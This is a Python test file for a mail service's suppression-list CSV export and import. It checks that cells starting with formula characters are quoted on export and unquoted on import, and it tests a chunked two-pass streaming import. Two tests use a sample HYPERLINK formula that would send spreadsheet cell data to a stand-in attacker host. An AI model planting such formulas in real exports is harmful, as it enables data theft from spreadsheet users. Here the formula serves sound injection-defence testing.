"""The suppression list's CSV: formula cells quoted by the export and unquoted by the import
(exactly), and the import in two streaming passes (checked whole, then written in chunks)."""

from __future__ import annotations

import io
import tempfile
import tracemalloc
from collections.abc import Sequence
from datetime import timedelta
from pathlib import Path
from typing import BinaryIO

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sendqueue.domain.errors import InvalidField, InvalidInput, StoreUnavailable
from sendqueue.domain.suppression import (
    MAX_TASK_ID,
    Suppression,
    SuppressionReason,
    first_entries,
    suppression_key,
)
from sendqueue.services.feedback import suppression as suppression_module
from sendqueue.services.feedback.suppression import (
    SuppressionService,
    export_cell,
    import_cell,
    to_csv,
)
from sendqueue.testing.clock import FakeClock
from sendqueue.testing.store import InMemoryTaskStore
from tests.support.app import T0, fake_app

R = SuppressionReason

# --- the cells --------------------------------------------------------------------------------

_TRIGGERS = "=+-@\t\r"


@given(st.text())
def test_a_cell_comes_back_from_export_and_import_unchanged(value: str) -> None:
    written = export_cell(value)
    assert import_cell(written) == value
    assert written[:1] not in _TRIGGERS or written == ""  # never a formula in a spreadsheet
    assert written in (value, "'" + value)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
         "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
        ("+1+1@example.com", "'+1+1@example.com"),
        ("-2@example.com", "'-2@example.com"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=x@example.com", "''=x@example.com"),  # a quote before a trigger: quoted too
        ("'x@example.com", "''x@example.com"),
        ("a=b@example.com", "a=b@example.com"),
        ("", ""),
        ("'", "''"),
    ],
)  # fmt: skip
def test_the_export_quotes_formula_starts_and_quotes(value: str, written: str) -> None:
    assert export_cell(value) == written
    assert import_cell(written) == value


def test_the_import_drops_one_quote_only_before_a_trigger_or_a_quote() -> None:
    assert import_cell("'-x@example.com") == "-x@example.com"
    assert import_cell("''-x@example.com") == "'-x@example.com"
    assert import_cell("'x@example.com") == "'x@example.com"  # a valid address: kept
    assert import_cell("'") == "'"
    assert import_cell("x'=") == "x'="


# --- export, then import ----------------------------------------------------------------------

# RFC 5322 atext: what a dot-atom local part may hold; the first character a formula start.
_ATEXT = "abcxyz0189!#$%&'*+-/=?^_`{|}~"
_LOCAL = st.builds(
    lambda first, rest: first + rest, st.sampled_from("=+-'a"), st.text(_ATEXT, max_size=8)
)
_TASK_ID = st.text(
    st.characters(codec="utf-8"),
    min_size=1,
    max_size=MAX_TASK_ID,
).filter(lambda t: t == t.strip())


@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.tuples(
            _LOCAL,
            st.sampled_from(list(R)),
            st.none() | _TASK_ID,
            st.integers(0, 10**9),
        ),
        max_size=8,
    )
)
def test_an_export_imports_back_to_the_same_entries(
    rows: list[tuple[str, SuppressionReason, str | None, int]],
) -> None:
    app = fake_app()
    entries = [
        Suppression(suppression_key(f"{local}@example.com"), reason, task, T0 + timedelta(0, 0, us))
        for local, reason, task, us in rows
    ]
    app.suppressions.suppress(entries)
    exported = "".join(to_csv(app.suppression.all()))
    other = fake_app(clock=FakeClock(T0 + timedelta(days=3)))
    imported = other.suppression.import_csv(exported)
    assert (imported.rows, imported.added) == (len(first_entries(entries)),) * 2
    assert list(other.suppression.all()) == list(app.suppression.all())


def test_addresses_and_task_ids_that_look_like_formulas_are_exported_quoted() -> None:
    app = fake_app()
    link = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    app.suppressions.suppress(
        [
            Suppression("=1+1@example.com", R.UNSUBSCRIBED, link, T0),
            Suppression("-x@example.com", R.BOUNCED, "@c1-4", T0),
            Suppression("'+x@example.com", R.MANUAL, None, T0),
            Suppression("cr@example.com", R.MANUAL, "a\rb", T0),  # a CR inside: quoted
        ]
    )
    exported = "".join(to_csv(app.suppression.all()))
    assert exported == (
        "email,reason,task_id,at\n"
        "''+x@example.com,manual,,2026-12-01T08:00:00Z\n"
        "'-x@example.com,bounced,'@c1-4,2026-12-01T08:00:00Z\n"
        '\'=1+1@example.com,unsubscribed,"\'=HYPERLINK(""http://evil.example/?""&A1,'
        '""click"")",2026-12-01T08:00:00Z\n'
        'cr@example.com,manual,"a\rb",2026-12-01T08:00:00Z\n'
    )
    other = fake_app()
    assert other.suppression.import_csv(exported).added == 4
    assert list(other.suppression.all()) == list(app.suppression.all())


# --- the streaming import ---------------------------------------------------------------------


class CountingStore(InMemoryTaskStore):
    """Notes the size of each ``suppress`` call; ``keep=False`` drops the entries (only their
    count), so that a memory peak is the import's own; ``fail_at`` fails that call."""

    def __init__(self, *, keep: bool = True, fail_at: int | None = None) -> None:
        super().__init__()
        self.calls: list[int] = []
        self._keep = keep
        self._fail_at = fail_at

    def suppress(self, entries: Sequence[Suppression]) -> int:
        self.calls.append(len(entries))
        if len(self.calls) == self._fail_at:
            raise StoreUnavailable("injected: the store went away")
        return super().suppress(entries) if self._keep else len(first_entries(entries))


def _csv(rows: int, *, start: int = 0) -> bytes:
    lines = (f"user{i}@example.com,bounced\n" for i in range(start, start + rows))
    return ("email,reason\n" + "".join(lines)).encode()


def _service(store: CountingStore) -> SuppressionService:
    return SuppressionService(store, FakeClock(T0))


def test_a_file_is_written_in_chunks_after_it_is_checked_whole(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(suppression_module, "IMPORT_CHUNK", 3)
    path = tmp_path / "s.csv"
    path.write_bytes(b"\xef\xbb\xbf" + _csv(7) + b"USER2@example.com,manual\n")
    store = CountingStore()
    imported = _service(store).import_file(path)
    assert (imported.rows, imported.added, imported.kept) == (8, 7, 1)
    assert store.calls == [3, 3, 2]
    assert store.suppressed(["user2@example.com"])["user2@example.com"].reason is R.BOUNCED


def test_a_bad_row_last_imports_nothing_and_every_bad_row_is_counted(tmp_path: Path) -> None:
    path = tmp_path / "s.csv"
    bad = "".join(f"nope{i},bounced\n" for i in range(150))
    path.write_bytes(_csv(25_000) + bad.encode() + b"a@example.com,spam\n")
    store = CountingStore()
    with pytest.raises(InvalidInput) as info:
        _service(store).import_file(path)
    assert info.value.total == 151
    assert len(info.value.errors) == 100
    assert [(p.row, p.field) for p in info.value.errors[:2]] == [
        (25_002, "email"),
        (25_003, "email"),
    ]
    assert store.calls == []


def test_a_byte_that_is_not_utf8_anywhere_imports_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(suppression_module, "IMPORT_CHUNK", 2)
    upload = io.BytesIO(_csv(10) + b"caf\xe9@example.com,manual\n")
    store = CountingStore()
    with pytest.raises(InvalidField) as info:
        _service(store).import_file(upload)
    assert info.value.field == "file"
    assert info.value.reason.startswith("not UTF-8: invalid byte 0xe9 at byte")
    assert store.calls == []


def test_a_stream_is_read_from_its_start_and_stays_open() -> None:
    with tempfile.SpooledTemporaryFile(max_size=1024) as upload:  # as Starlette spools one
        upload.write(_csv(300))  # past max_size: on disk now, and positioned at its end
        imported = _service(CountingStore()).import_file(upload)  # type: ignore[arg-type]
        assert imported.added == 300
        assert not upload.closed


def test_more_bytes_than_allowed_is_an_invalid_field_naming_the_file() -> None:
    store = CountingStore()
    with pytest.raises(InvalidField) as info:
        _service(store).import_file(io.BytesIO(_csv(100)), max_bytes=1000)
    assert info.value.field == "file"
    assert "larger than 1000 bytes" in info.value.reason
    assert store.calls == []


def test_a_missing_file_is_an_invalid_field_naming_it(tmp_path: Path) -> None:
    with pytest.raises(InvalidField) as info:
        _service(CountingStore()).import_file(tmp_path / "missing.csv")
    assert info.value.field == "file"
    assert "cannot be read" in info.value.reason


def test_a_store_failure_midway_leaves_the_chunks_written_before_it(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(suppression_module, "IMPORT_CHUNK", 4)
    store = CountingStore(fail_at=2)
    service = _service(store)
    with pytest.raises(StoreUnavailable):
        service.import_file(io.BytesIO(_csv(10)))
    assert store.count_suppressions() == 4
    store._fail_at = None
    again = service.import_file(io.BytesIO(_csv(10)))  # adds the rest
    assert (again.added, again.kept, store.count_suppressions()) == (6, 4, 10)


class Rewritten(io.BytesIO):
    """A file that someone rewrites between the two passes."""

    def __init__(self, first: bytes, second: bytes) -> None:
        super().__init__(first)
        self._second: bytes | None = second
        self._seeks = 0

    def seek(self, offset: int, whence: int = 0) -> int:
        self._seeks += 1
        if self._seeks == 2 and self._second is not None:
            super().seek(0)
            super().truncate()
            super().write(self._second)
        return super().seek(offset, whence)


@pytest.mark.parametrize(
    ("second", "reason"),
    [
        (_csv(3) + b"nope,manual\n", "changed while it was imported: row 5 is bad now (email:"),
        (_csv(5), "changed while it was imported (4 rows checked, then 5 read)"),
    ],
)
def test_a_file_that_changes_between_the_passes_is_named(second: bytes, reason: str) -> None:
    store = CountingStore()
    with pytest.raises(InvalidField) as info:
        _service(store).import_file(Rewritten(_csv(4), second))
    assert info.value.field == "file"
    assert info.value.reason.startswith(reason)


@pytest.mark.parametrize("kind", ["path", "stream"])
def test_the_import_holds_a_chunk_in_memory_not_the_file(
    kind: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """tracemalloc's peak over an import of 6,000 rows in chunks of 500. The whole-file import
    held every entry: 2.1 MB here (350 bytes a row); the two passes hold one chunk (0.3 MB).
    tracemalloc makes the address check ten times slower, hence a small file and chunk."""
    monkeypatch.setattr(suppression_module, "IMPORT_CHUNK", 500)
    data = _csv(6_000)
    path = tmp_path / "s.csv"
    path.write_bytes(data)
    source: Path | BinaryIO = path if kind == "path" else io.BytesIO(data)
    store = CountingStore(keep=False)
    service = _service(store)
    service.import_file(io.BytesIO(_csv(10, start=10_000)))  # the address check's caches
    tracemalloc.start()
    try:
        imported = service.import_file(source)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert imported.rows == 6_000
    assert peak < 1024 * 1024, f"peak {peak / 1e6:.2f} MB"
    assert store.calls[1:] == [500] * 12
